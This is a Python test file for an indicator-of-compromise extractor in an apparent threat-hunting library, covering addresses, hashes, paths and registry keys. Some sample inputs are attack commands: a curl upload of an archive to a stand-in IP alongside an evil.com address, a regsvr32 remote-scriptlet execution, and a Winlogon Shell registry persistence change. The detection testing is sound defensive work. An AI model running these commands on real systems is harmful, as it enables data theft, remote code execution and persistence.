"""Each built-in IoC type: what it finds, and the classic false positives it does not."""

from __future__ import annotations

import pytest

from huntbook.analysis.iocs import extract_iocs


def found(text: str, kind: str, **options: object) -> list[str]:
    frame = extract_iocs(text, types=[kind], **options)  # type: ignore[arg-type]
    return frame["observable"].tolist()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("connect 10.1.2.3:443 now", ["10.1.2.3"]),
        ("trailing dot 18.12.15.14.", ["18.12.15.14"]),
        ("version 1.2.3.4.5", []),
        ("build 10.0.19041.1", []),
        ("2018.12.15.14.05.43", []),
        ("octet 256.1.1.1", []),
        ("leading zero 018.12.15.14", []),
        ("glued x1.2.3.4", []),
        ("cidr 10.0.0.0/8", ["10.0.0.0"]),
    ],
)
def test_ipv4(text: str, expected: list[str]) -> None:
    assert found(text, "ipv4") == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("addr 2001:DB8::ff00:42:8329 up", ["2001:db8::ff00:42:8329"]),
        ("loopback ::1 then", ["::1"]),
        ("jsmith@[IPv6:2001:db8::1]", ["2001:db8::1"]),
        ("time 12:34:56", []),
        ("mac AB:F2:C9:A6:B3:4F", []),
        ("std::vector and Foo::Bar", []),
        ("1:2:3:4:5:6::7:8", []),
    ],
)
def test_ipv6(text: str, expected: list[str]) -> None:
    assert found(text, "ipv6") == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("visit Example.COM today", ["example.com"]),
        ("host mz-fcb301p.ocn.ad.jp ok", ["mz-fcb301p.ocn.ad.jp"]),
        ("run svchost.exe and invoke.ps1", []),
        ("file abc.py and run.sh and invoice.zip", []),
        ("but www.example.zip is a host", ["www.example.zip"]),
        ("smtp.mailfrom and tooshor.t", []),
        ("co.uk alone is a suffix", []),
        ("$process.Name and Host.Info", []),
        ("[System.Net.WebClient]::new()", []),
        ("a method Foo.Run(x)", []),
    ],
)
def test_domain(text: str, expected: list[str]) -> None:
    assert found(text, "domain") == expected


def test_domain_file_names_when_asked() -> None:
    assert found("file abc.py", "domain", allow_filenames=True) == ["abc.py"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://example.com/a?b=1#c.", ["https://example.com/a?b=1#c"]),
        ("(https://i.imgur.com/abc.png)", ["https://i.imgur.com/abc.png"]),
        ("Foo https://citizenlab.ca/about/), bar", ["https://citizenlab.ca/about/"]),
        ("wiki https://en.wikipedia.org/wiki/Foo_(bar) end", ["https://en.wikipedia.org/wiki/Foo_(bar)"]),
        ("HTTP://EXAMple.com/TEST", ["http://example.com/TEST"]),
        ("regsvr32 /i:http://server/file.sct scrobj.dll", ["http://server/file.sct"]),
        ("http://[2001:db8::1]:80/x", ["http://[2001:db8::1]:80/x"]),
        ("http://fdc4:2581:575b:5a72:0000:0000:0000:0001", []),
        ("https://example.com”", ["https://example.com"]),
        ("http://example,com/", []),
    ],
)
def test_url(text: str, expected: list[str]) -> None:
    assert found(text, "url") == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mail User <user@Microsoft.com> now", ["user@microsoft.com"]),
        ('my email is: foo"bar@gmail.com', ["bar@gmail.com"]),
        ("foobar@gmail.comahhhhhhhh", []),
        ("a@127.0.0.1", []),
        ("myuser@", []),
    ],
)
def test_email(text: str, expected: list[str]) -> None:
    assert found(text, "email") == expected


def test_hashes_are_whole_hex_runs() -> None:
    md5 = "68b329da9893e34099c7d8ad5cb9c940"
    sha1 = "adc83b19e793491b1c6ea0fd8b46cd9f32e592fc"
    sha256 = "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b"
    text = f"md5 {md5.upper()} sha1={sha1} ({sha256}) slice {sha256}aa words{md5}"
    frame = extract_iocs(text, types=["md5", "sha1", "sha256"])
    assert list(zip(frame["type"], frame["observable"], strict=True)) == [
        ("md5", md5),
        ("sha1", sha1),
        ("sha256", sha256),
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua',
            [r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"],
        ),
        (r"\??\C:\Windows\system32\conhost.exe 0xffffffff", [r"C:\Windows\system32\conhost.exe"]),
        (r"tracefile=C:\\Users\\user\\AppData\\x.txt", [r"C:\Users\user\AppData\x.txt"]),
        (r"net use v: \\tsclient\c", [r"\\tsclient\c"]),
        (r".\rundll32 /C c:\users\x\42424.exe", [r".\rundll32", r"c:\users\x\42424.exe"]),
        (r"%APPDATA%\odsync.exe -k", [r"%APPDATA%\odsync.exe"]),
        (r"http:\\example.com/test", []),
        (r"C:\Users\<username>\AppData", []),
    ],
)
def test_winpath(text: str, expected: list[str]) -> None:
    assert found(text, "winpath") == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/bin/bash --file:./bish --file:../../bosh", ["/bin/bash", "./bish", "../../bosh"]),
        ('exe="/usr/sbin/sshd" hostname=x', ["/usr/sbin/sshd"]),
        ("/Library/Application Support/Foo/x.plist", ["/Library/Application Support/Foo/x.plist"]),
        ("/usr/bin/python3 script/run.py", ["/usr/bin/python3"]),
        ("cmd /c dir /s /b", []),
        ("http://example.com/a/b", []),
    ],
)
def test_linpath(text: str, expected: list[str]) -> None:
    assert found(text, "linpath") == expected


def test_cve_mac_regkey() -> None:
    text = (
        "exploit cve-2021-44228 from aa-bb-cc-dd-ee-ff and 00:00:00:00:00:00; "
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell '
        r"and HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
    )
    frame = extract_iocs(text, types=["cve", "mac", "regkey"])
    assert list(zip(frame["type"], frame["observable"], strict=True)) == [
        ("cve", "CVE-2021-44228"),
        ("mac", "aa:bb:cc:dd:ee:ff"),
        ("regkey", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"),
        ("regkey", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"),
    ]


def test_nested_indicators_only_when_asked() -> None:
    text = r"curl.exe -T C:\Temp\q.7z https://198.51.100.23/upload/ and mail a@evil.com"
    plain = extract_iocs(text)
    assert set(plain["type"]) == {"winpath", "url", "email"}
    nested = extract_iocs(text, nested=True)
    assert {"198.51.100.23", "evil.com"} <= set(nested["observable"])
